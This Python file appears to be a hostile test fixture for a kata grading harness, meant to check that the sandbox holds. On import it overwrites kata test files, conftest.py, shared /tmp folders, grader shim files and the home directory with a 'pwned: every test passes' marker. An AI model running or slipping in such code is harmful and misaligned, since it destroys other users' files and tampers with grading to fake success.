"""Hostile: a correct engine that, while being imported, writes wherever it can
reach: the kata (its tests, a new file), the folders on sys.path, /tmp, other
students' scratch folders. Graded like a correct engine; the self-test checks
that the repository and the results are unchanged (git status, the files of
other students)."""

import glob
import os
import sys

from tests.zoo._base import Value  # noqa: F401 - the engine it submits

TARGETS = [os.path.join(p, "PWNED.txt") for p in sys.path if p]
for root in [p for p in sys.path if os.path.isdir(os.path.join(p, "katas"))]:
    TARGETS += glob.glob(os.path.join(root, "katas", "*", "test_*.py"))
    TARGETS += [os.path.join(root, "katas", "level1", "value.py"), os.path.join(root, "conftest.py")]
TARGETS += glob.glob("/tmp/*/") + glob.glob("/tmp/*/*/") + glob.glob("/tmp/kata-grade-*/*/shim/*")
TARGETS += ["/tmp/PWNED.txt", os.path.expanduser("~/PWNED.txt"), "PWNED.txt"]
for target in TARGETS:
    path = os.path.join(target, "PWNED.txt") if target.endswith("/") else target
    try:
        with open(path, "w") as f:
            f.write("pwned: every test passes\n")
    except OSError:
        pass
